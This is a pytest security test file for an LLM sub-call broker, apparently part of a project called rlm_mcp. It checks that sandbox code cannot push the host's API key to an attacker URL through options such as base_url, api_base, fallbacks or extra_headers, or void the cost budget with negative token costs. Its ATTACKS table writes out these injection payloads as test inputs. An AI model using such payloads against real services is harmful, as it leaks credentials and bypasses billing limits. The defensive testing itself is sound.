"""Sub-call options and models chosen by sandbox code cannot send the host's key anywhere but the configured endpoint.

Issue 11, item 1: `llm_query`/`llm_batch` used to pass any keyword to litellm, so `base_url`,
`api_base` or `fallbacks` sent the host's API key to a URL the sandbox chose, and
`input_cost_per_token=-1` voided the cost budget. Each attack below runs as sandbox code in a real
session; the attacker's URL is a tripwire server that must see no connection at all.
"""

from __future__ import annotations

from collections.abc import AsyncIterator, Callable

import pytest

from rlm_mcp.config import Settings
from rlm_mcp.repl_client import ExecResult
from rlm_mcp.session import Session, running_sessions
from tests.security.conftest import Tripwire
from tests.support.openai_server import OpenAIServer

pytestmark = pytest.mark.anyio

MARKER_KEY = "sk-rlm-marker-7f3a9c1e"
"""The session's API key: it may travel only to the configured endpoint."""

ATTACKS = {
    "base_url": "llm_query('x', base_url=URL)",
    "api_base": "llm_query('x', api_base=URL + '/v1')",
    # The configured endpoint fails this prompt once, so litellm would try the fallback.
    "fallbacks": "llm_query('[[500]] x', fallbacks=[{'model': 'openai/m', 'api_base': URL + '/v1'}])",
    "input_cost_per_token": "llm_batch(['x', 'y'], input_cost_per_token=-1, output_cost_per_token=-1)",
    "extra_headers": "llm_query('x', extra_headers={'Host': URL, 'X-Key-Echo': 'please'})",
    "api_key": "llm_query('x', api_key='sk-attacker')",
    # Names of the broker's own arguments must not reach them (cache=False would skip the cache).
    "cache": "llm_query('x', cache=False)",
    "on_item": "llm_batch(['x'], on_item=1)",
}


@pytest.fixture
async def session(
    backend_name: str,
    litellm_clients_closed: None,
    make_settings: Callable[..., Settings],
    openai_server: OpenAIServer,
) -> AsyncIterator[Session]:
    """A real session on the backend under test, its sub-calls aimed at `openai_server` with the marker key."""
    settings = make_settings(
        backend=backend_name,
        model="openai/test-model",
        api_base=f"{openai_server.url}/v1",
        api_key=MARKER_KEY,
        llm_retries=0,
        llm_timeout_s=60.0,
    )
    async with running_sessions(settings) as sessions:
        yield sessions.get("subcall-params")


async def run(session: Session, tripwire: Tripwire, code: str) -> ExecResult:
    """Run `code` with URL bound to the tripwire's address; the key must not show in anything it gets back."""
    result = await session.exec(f"URL = {tripwire.url!r}\n{code}")
    assert MARKER_KEY not in repr(result)
    return result


@pytest.mark.parametrize("attack", sorted(ATTACKS))
async def test_an_option_outside_the_allowlist_is_refused_and_sends_nothing(
    session: Session, tripwire: Tripwire, openai_server: OpenAIServer, attack: str
) -> None:
    """The exec fails naming the option and the allowed ones; neither the attacker nor the endpoint hears of it."""
    result = await run(session, tripwire, ATTACKS[attack])
    assert tripwire.received == []
    assert openai_server.requests == 0
    assert result.error is not None
    message = str(result.error)
    assert f"'{attack}'" in message and "temperature, top_p" in message


async def test_a_model_the_user_did_not_configure_is_refused(
    session: Session, tripwire: Tripwire, openai_server: OpenAIServer
) -> None:
    """model='openai/other' fails naming the allowed model and the setting that would allow it; nothing is sent."""
    result = await run(session, tripwire, "llm_batch(['x'], model='openai/other')")
    assert (tripwire.received, openai_server.requests) == ([], 0)
    assert result.error is not None
    message = str(result.error)
    for part in ("'openai/other'", "only openai/test-model", "RLM_ALLOWED_MODELS"):
        assert part in message


async def test_sampling_options_still_work(session: Session, tripwire: Tripwire, openai_server: OpenAIServer) -> None:
    """temperature, max_tokens and stop pass; the answers come from the configured endpoint alone."""
    code = (
        "print(llm_query('one', temperature=0.3, max_tokens=20, stop=['\\n\\n']))\n"
        "print(llm_batch(['two', 'three'], max_tokens=5, seed=1))"
    )
    result = await run(session, tripwire, code)
    assert result.error is None, result.error
    assert result.stdout == "echo: one\n['echo: two', 'echo: three']\n"
    assert (tripwire.received, openai_server.requests) == ([], 3)
